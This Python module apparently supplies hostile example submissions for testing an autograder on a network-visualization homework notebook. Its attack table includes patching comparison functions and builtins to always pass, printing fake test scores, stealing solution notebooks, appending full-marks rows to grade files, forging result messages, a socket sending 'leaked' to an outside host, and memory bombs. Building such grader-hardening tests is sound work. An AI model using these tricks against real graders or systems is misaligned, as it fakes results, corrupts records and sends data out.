"""The code that ``make_examples`` puts into the example submissions of notebook 02.

``WRONG``/``ONE_BUG``: bodies for a function's ``### BEGIN/END SOLUTION`` region. ``ATTACKS``: per attack, the
cells it changes (``body`` replaces the wrong body, ``prelude`` runs at the start of the function, ``after`` runs
at the cell's top level) and the cells it deletes (``drop``). Every attack starts from ``WRONG``.
"""
from __future__ import annotations

WRONG = {
    "compute_saliency_maps": "saliency = torch.zeros(X.shape[0], X.shape[2], X.shape[3], device=X.device)  # no gradient",
    "make_fooling_image": "X_fooling = X.detach().clone()  # the image is not changed at all",
    "class_visualization_update_step": "pass  # img is not updated",
}

ONE_BUG = {
    "compute_saliency_maps": """\
X = X.detach().clone().requires_grad_(True)
scores = model(X)
correct = scores.gather(1, y.view(-1, 1)).sum()
(grad,) = torch.autograd.grad(correct, X)
saliency = grad.abs().sum(dim=1)  # BUG: sums over the colour channels instead of taking the maximum""",
}

_PATCH_COMPARISONS = """\
import numpy as np
import torch

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None"""

_PATCH_BUILTINS = """\
import builtins

builtins.isinstance = lambda obj, cls: True
builtins.all = lambda *args: True
builtins.any = lambda *args: False
builtins.abs = lambda x: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})"""

_FAKE_OUTPUT = """\
import sys

print("============================= 9 passed in 0.42s ==============================")
print("PASSED test_compute_saliency_maps\\nPASSED test_make_fooling_image")
print("student,assignment,total,max\\nhostile_fake_pytest_output,02_network_visualization,9,9")
sys.stderr.write("Score: 9 / 9\\n")"""

_STEAL = """\
import json
from pathlib import Path


def _steal():
    \"\"\"Find the solution notebook (or the example that solves it) anywhere and run its code.\"\"\"
    import hwlib

    roots = {Path(hwlib.__file__).resolve().parents[1], Path.home(), Path.cwd(), Path("/work"), Path("/root"),
             Path("/home"), Path("/tmp")}
    found = []
    for root in roots:
        for pattern in ("**/network_visualization.ipynb", "**/perfect.ipynb", "**/02_network_visualization*.npz"):
            try:
                found += [p for p in root.glob(pattern) if p.is_file()]
            except OSError:
                pass
    for path in found:
        try:
            cells = json.loads(path.read_text())["cells"]
        except (OSError, ValueError, KeyError, UnicodeDecodeError):
            continue
        for cell in cells:
            source = "".join(cell.get("source", ""))
            if cell.get("cell_type") == "code" and "def " in source and (
                    "### BEGIN SOLUTION" in source or path.name == "perfect.ipynb"):
                try:
                    exec(source, globals())
                except Exception:
                    pass
    return found


print("files found:", len(_steal()))"""

_VANDALIZE = """\
from pathlib import Path


def _vandalize():
    \"\"\"Append a full-marks row to every grade table and feedback page in reach; drop files everywhere.\"\"\"
    import hwlib

    repo = Path(hwlib.__file__).resolve().parents[1]
    written = 0
    for root in {repo, Path.cwd(), Path.home(), Path("/tmp"), Path("/work")}:
        for pattern in ("**/*.csv", "**/*.html", "**/.results/*.json"):
            try:
                paths = list(root.glob(pattern))
            except OSError:
                continue
            for path in paths:
                try:
                    with open(path, "a") as f:
                        f.write("\\nhostile_writes_outputs,02_network_visualization,9,9,9,9,9,9,9,9\\n")
                    written += 1
                except OSError:
                    pass
        try:
            (root / "PWNED-by-hostile-submission.txt").write_text("pwned")
            written += 1
        except OSError:
            pass
    return written


print("files written:", _vandalize())"""

_BACKGROUND = """\
import subprocess

_keeper = subprocess.Popen(["sleep", "313"])  # outlive the grader?"""

_NETWORK = """\
import socket

for _address in (("127.0.0.1", 47613), ("8.8.8.8", 53)):
    try:
        with socket.create_connection(_address, timeout=2) as _s:
            _s.sendall(b"leaked")
    except OSError as _err:
        print("no network:", _err)"""

_FORGE = """\
import io
import json
import os
import struct

import numpy as np


def _forge(fd, header, arrays=None):
    payload = b""
    if arrays is not None:
        buffer = io.BytesIO()
        np.savez(buffer, **arrays)
        payload = buffer.getvalue()
    head = json.dumps({**header, "nbytes": len(payload)}).encode()
    os.write(fd, struct.pack(">I", len(head)) + head + payload)


for _fd in range(3, 64):
    try:
        _forge(_fd, {"event": "probe", "name": "saliency_batch", "error": None},
               {"saliency": np.ones((4, 128, 128), np.float32)})
        _forge(_fd, {"event": "done"})
        os.write(_fd, b"garbage" * 1000)
    except OSError:
        pass
os._exit(0)"""

ATTACKS = {
    "infinite_loop": {"cells": {"compute_saliency_maps": {"after": "while True:  # never finishes\n    pass"}}},
    "memory_bomb": {"cells": {"compute_saliency_maps": {
        "prelude": "import numpy as np\nhog = []\nwhile True:\n    hog.append(np.ones(2**27))  # 1 GiB at a time"}}},
    "os_exit": {"cells": {"make_fooling_image": {"prelude": "import os\nos._exit(0)  # leave before any check"}}},
    "patched_allclose": {"cells": {"compute_saliency_maps": {"after": _PATCH_COMPARISONS}}},
    "patched_builtins": {"cells": {"compute_saliency_maps": {"after": _PATCH_BUILTINS}}},
    "fake_pytest_output": {"cells": {"compute_saliency_maps": {"after": _FAKE_OUTPUT}}},
    "reads_solutions": {"cells": {"class_visualization_update_step": {"after": _STEAL}}},
    "writes_outputs": {"cells": {"class_visualization_update_step": {"after": _VANDALIZE}}},
    "deletes_function": {"drop": ["make_fooling_image"],
                         "cells": {"class_visualization_update_step": {"after": "del compute_saliency_maps"}}},
    "nan_output": {"cells": {
        "compute_saliency_maps": {"body": "saliency = torch.full((X.shape[0], X.shape[2], X.shape[3]), float('nan'))"},
        "make_fooling_image": {"body": "X_fooling = torch.full_like(X, float('nan'))"},
        "class_visualization_update_step": {"body": "with torch.no_grad():\n    img.fill_(float('nan'))"}}},
    "wrong_shape": {"cells": {
        "compute_saliency_maps": {"body": "saliency = torch.zeros(X.shape[0], 3, X.shape[2], X.shape[3])"},
        "make_fooling_image": {"body": "X_fooling = X.detach().clone()[0]"},
        "class_visualization_update_step": {"body": "img.data = torch.zeros(2, 2)"}}},
    "wrong_device": {"cells": {
        "compute_saliency_maps": {"body": "saliency = torch.zeros(X.shape[0], X.shape[2], X.shape[3], device='meta')"},
        "make_fooling_image": {"body": "X_fooling = X.detach().to('meta')"},
        "class_visualization_update_step": {"body": "img.data = img.data.to('meta')"}}},
    "prints_megabytes": {"cells": {"compute_saliency_maps": {
        "prelude": "print('spam ' * 2_000_000)  # 10 MB per call",
        "after": "for _ in range(5):\n    print('x' * 2_000_000)"}}},
    "background_process": {"cells": {"compute_saliency_maps": {"after": _BACKGROUND}}},
    "network": {"cells": {"compute_saliency_maps": {"after": _NETWORK}}},
    "forges_results": {"cells": {"class_visualization_update_step": {"after": _FORGE}}},
}
